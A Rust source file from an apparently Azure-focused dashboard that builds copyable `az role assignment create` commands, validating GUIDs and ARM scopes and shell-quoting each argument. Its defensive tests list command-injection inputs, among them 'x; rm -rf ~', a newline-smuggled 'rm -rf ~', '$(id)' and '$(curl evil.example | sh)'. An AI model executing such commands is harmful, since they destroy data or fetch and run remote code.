//! Command lines the dashboard offers to copy into a terminal: the `az role assignment create`
//! of a permission failure (docs/PRODUCT.md §6), quoted for a POSIX shell.
//!
//! The principal and scope come out of Azure's error text, which quotes whatever the request
//! carried, so they are untrusted: only a GUID principal and an ARM-id scope
//! (`/subscriptions/<guid>` or `/subscriptions/<guid>/resourceGroups/<name>`, the name by ARM's
//! rules) make a command, and every argument is quoted besides, so a pasted command can never
//! run anything the dashboard did not write.

use crate::naming::{validate_resource_group_name, validate_subscription_id};

/// `az role assignment create --assignee <principal> --role Contributor --scope <scope>`, or
/// `None` when the principal is not a GUID or the scope not a subscription or resource group id.
pub fn role_assignment_command(principal: &str, scope: &str) -> Option<String> {
    if validate_subscription_id(principal).is_err() || !is_arm_scope(scope) {
        return None;
    }
    Some(format!(
        "az role assignment create --assignee {} --role Contributor --scope {}",
        posix_quote(principal),
        posix_quote(scope)
    ))
}

/// A subscription id or resource group id: `/subscriptions/<guid>` with an optional
/// `/resourceGroups/<name>` (segment names case-insensitive, as ARM reads them).
pub fn is_arm_scope(scope: &str) -> bool {
    let mut segments = scope.split('/');
    if segments.next() != Some("") {
        return false;
    }
    match (
        segments.next(),
        segments.next(),
        segments.next(),
        segments.next(),
        segments.next(),
    ) {
        (Some(subscriptions), Some(id), group_segment, group, None) => {
            let subscription_ok = subscriptions.eq_ignore_ascii_case("subscriptions")
                && validate_subscription_id(id).is_ok();
            let group_ok = match (group_segment, group) {
                (None, None) => true,
                (Some(segment), Some(name)) => {
                    segment.eq_ignore_ascii_case("resourceGroups")
                        && validate_resource_group_name(name).is_ok()
                }
                _ => false,
            };
            subscription_ok && group_ok
        }
        _ => false,
    }
}

/// `argument` as one word for a POSIX shell: unchanged when it holds only characters no shell
/// reads specially (letters, digits and `-_./:@%+=,`), else in single quotes, inside which
/// nothing is special; a single quote itself is written `'\''`.
pub fn posix_quote(argument: &str) -> String {
    let plain = !argument.is_empty()
        && argument.chars().all(|c| {
            c.is_ascii_alphanumeric()
                || matches!(c, '-' | '_' | '.' | '/' | ':' | '@' | '%' | '+' | '=' | ',')
        });
    if plain {
        argument.to_owned()
    } else {
        format!("'{}'", argument.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rstest::rstest;

    const PRINCIPAL: &str = "5d3f1e2a-7b9c-4d8e-a1f0-3c2b4a5d6e7f";
    const SUBSCRIPTION: &str = "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f";

    #[test]
    fn a_guid_and_a_group_id_make_the_command() {
        let scope = format!("{SUBSCRIPTION}/resourceGroups/rg-platform");
        assert_eq!(
            role_assignment_command(PRINCIPAL, &scope).as_deref(),
            Some(
                "az role assignment create --assignee 5d3f1e2a-7b9c-4d8e-a1f0-3c2b4a5d6e7f --role Contributor --scope /subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg-platform"
            )
        );
        assert!(role_assignment_command(PRINCIPAL, SUBSCRIPTION).is_some());
    }

    #[test]
    fn a_group_name_with_parentheses_is_quoted() {
        let scope = format!("{SUBSCRIPTION}/resourcegroups/rg(dev)");
        assert_eq!(
            role_assignment_command(PRINCIPAL, &scope).as_deref(),
            Some(
                format!("az role assignment create --assignee {PRINCIPAL} --role Contributor --scope '{scope}'")
                    .as_str()
            )
        );
    }

    #[rstest]
    #[case::command_separator("x; rm -rf ~")]
    #[case::substitution("$(curl evil.example | sh)")]
    #[case::backticks("`id`")]
    #[case::single_quote("a'b")]
    #[case::double_quote("a\"b")]
    #[case::newline("5d3f1e2a-7b9c-4d8e-a1f0-3c2b4a5d6e7f\nrm -rf ~")]
    #[case::empty("")]
    #[case::not_a_guid("ebb57515")]
    fn a_hostile_principal_offers_no_command(#[case] principal: &str) {
        let scope = format!("{SUBSCRIPTION}/resourceGroups/rg");
        assert_eq!(role_assignment_command(principal, &scope), None);
    }

    #[rstest]
    #[case::command_separator(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg; rm -rf ~"
    )]
    #[case::substitution(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/$(id)"
    )]
    #[case::quote("/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/a'b")]
    #[case::newline(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg\nrm -rf ~"
    )]
    #[case::not_a_subscription_guid("/subscriptions/fcfd/resourceGroups/dev")]
    #[case::deeper_than_a_group(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups/rg/providers/x"
    )]
    #[case::relative("subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f")]
    #[case::trailing_slash("/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/")]
    #[case::other_segment("/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/tenants/x")]
    #[case::group_without_name(
        "/subscriptions/8c2f9f8e-3b1d-4c6a-9e5f-1a2b3c4d5e6f/resourceGroups"
    )]
    #[case::root("/")]
    fn a_hostile_scope_offers_no_command(#[case] scope: &str) {
        assert_eq!(role_assignment_command(PRINCIPAL, scope), None);
    }

    #[rstest]
    #[case("plain-word_1.2/x:y@z%+=,", "plain-word_1.2/x:y@z%+=,")]
    #[case("", "''")]
    #[case("a b", "'a b'")]
    #[case("; rm -rf ~", "'; rm -rf ~'")]
    #[case("$(id)", "'$(id)'")]
    #[case("`id`", "'`id`'")]
    #[case("it's", r"'it'\''s'")]
    #[case("a\nb", "'a\nb'")]
    #[case("*", "'*'")]
    fn quoting_leaves_nothing_for_the_shell_to_read(#[case] argument: &str, #[case] quoted: &str) {
        assert_eq!(posix_quote(argument), quoted);
    }
}
